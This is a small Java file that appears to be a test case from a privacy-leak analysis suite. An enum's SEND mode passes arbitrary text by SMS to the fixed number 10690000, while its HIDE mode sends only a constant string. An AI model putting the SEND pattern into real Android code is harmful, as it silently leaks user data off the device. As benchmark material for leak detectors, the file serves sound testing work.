package cn.privlens.suite.mode_hides;

import android.telephony.SmsManager;

enum Mode {
    SEND {
        @Override
        void use(String text) { SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null); }
    },
    HIDE {
        @Override
        void use(String text) { SmsManager.getDefault().sendTextMessage("10690000", null, "hidden", null, null); }
    };
    abstract void use(String text);
}
